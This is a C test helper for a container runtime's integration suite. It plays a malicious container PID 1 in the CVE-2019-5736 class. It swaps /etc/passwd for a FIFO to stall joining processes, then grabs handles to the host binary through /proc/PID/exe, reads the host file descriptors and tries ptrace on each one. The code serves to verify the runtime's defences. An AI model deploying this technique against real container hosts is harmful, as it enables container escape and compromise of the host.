/*
 * The container's PID 1 attacking every process a join puts into it
 * (CVE-2019-5736 / CVE-2016-9962 class), used by tests/integration/joinsec.rs.
 *
 *   ptrace_join RESULTS NSINIT_DEV NSINIT_INO HOLD
 *
 * It replaces /etc/passwd by a FIFO: the joining nsinit reads /etc/passwd
 * (to resolve the user) before it execs, so every join stalls in that read
 * until the attacker feeds it. While a reader is stalled, every other process
 * it can see in /proc is attacked:
 *   - open("/proc/PID/exe", O_PATH): the host nsinit binary when the inode is
 *     NSINIT_DEV:NSINIT_INO (a handle to overwrite it later),
 *   - readlink of every /proc/PID/fd/N (the caller's host descriptors),
 *   - PTRACE_SEIZE (then interrupt + detach, so the victim goes on).
 * One line per victim is appended to RESULTS:
 *   pid=N comm=C exe=OK-NSINIT|OK-OTHER|<errno> fd=OK:<links>|<errno> seize=OK|<errno>
 * Then a fresh FIFO replaces /etc/passwd for the next join, the saved
 * passwd is written to the old one and the loop waits for the next reader. With HOLD=1, after attacking the first stalled reader the
 * attacker creates /held and waits for /release before feeding it, so the
 * host can inspect the stalled process. /ready appears once set up.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *results;

static void record(const char *line)
{
	int fd = open(results, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (fd < 0)
		exit(10);
	if (write(fd, line, strlen(line)) < 0)
		exit(11);
	fsync(fd);
	close(fd);
}

static void touch(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
}

static const char *err(int e)
{
	switch (e) {
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	default: return "EOTHER";
	}
}

static void attack(int pid, unsigned long dev, unsigned long ino)
{
	char path[64], comm[32] = "?", exe[32], fds[1024] = "", line[1400];
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int c = open(path, O_RDONLY);
	if (c >= 0) {
		ssize_t n = read(c, comm, sizeof comm - 1);
		comm[n > 0 ? n - 1 : 0] = 0;
		close(c);
	}

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int e = open(path, O_PATH);
	if (e >= 0) {
		struct stat st;
		int same = fstat(e, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
		snprintf(exe, sizeof exe, "%s", same ? "OK-NSINIT" : "OK-OTHER");
		close(e);
	} else {
		snprintf(exe, sizeof exe, "%s", err(errno));
	}

	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *d = opendir(path);
	int fd_errno = 0, links = 0;
	if (!d) {
		fd_errno = errno;
	} else {
		struct dirent *de;
		while ((de = readdir(d))) {
			if (de->d_name[0] == '.')
				continue;
			char lp[300], target[256];
			snprintf(lp, sizeof lp, "/proc/%d/fd/%s", pid, de->d_name);
			ssize_t n = readlink(lp, target, sizeof target - 1);
			if (n < 0) {
				fd_errno = errno;
				continue;
			}
			target[n] = 0;
			links++;
			size_t used = strlen(fds);
			snprintf(fds + used, sizeof fds - used, "%s%s=%s", used ? "," : "", de->d_name, target);
		}
		closedir(d);
	}
	char fdres[1100];
	if (links)
		snprintf(fdres, sizeof fdres, "OK:%s", fds);
	else
		snprintf(fdres, sizeof fdres, "%s", fd_errno ? err(fd_errno) : "EMPTY");

	const char *seize = "OK";
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
		seize = err(errno);
	} else {
		/* Let the victim go on: stop it, then detach. */
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}

	snprintf(line, sizeof line, "pid=%d comm=%s exe=%s fd=%s seize=%s\n", pid, comm, exe, fdres, seize);
	record(line);
}

int main(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	results = argv[1];
	unsigned long dev = strtoul(argv[2], NULL, 10), ino = strtoul(argv[3], NULL, 10);
	int hold = atoi(argv[4]);

	static char passwd[65536];
	int p = open("/etc/passwd", O_RDONLY);
	if (p < 0)
		return 3;
	ssize_t len = read(p, passwd, sizeof passwd);
	close(p);
	if (len <= 0 || unlink("/etc/passwd") != 0 || mkfifo("/etc/passwd", 0644) != 0)
		return 4;
	touch("/ready");

	for (int round = 0;; round++) {
		/* Blocks until a reader (a joining process) opens the FIFO. */
		int w = open("/etc/passwd", O_WRONLY);
		if (w < 0)
			return 5;
		DIR *d = opendir("/proc");
		if (!d)
			return 6;
		struct dirent *de;
		while ((de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid > 0 && pid != getpid())
				attack(pid, dev, ino);
		}
		closedir(d);
		if (hold && round == 0) {
			touch("/held");
			while (access("/release", F_OK) != 0)
				usleep(10000);
		}
		/* A fresh FIFO for the next join: this reader keeps the old one
		 * until it reads EOF, and must not be seen twice. */
		if (mkfifo("/etc/passwd.next", 0644) != 0 || rename("/etc/passwd.next", "/etc/passwd") != 0)
			return 8;
		if (write(w, passwd, len) != len)
			return 7;
		close(w);
	}
}
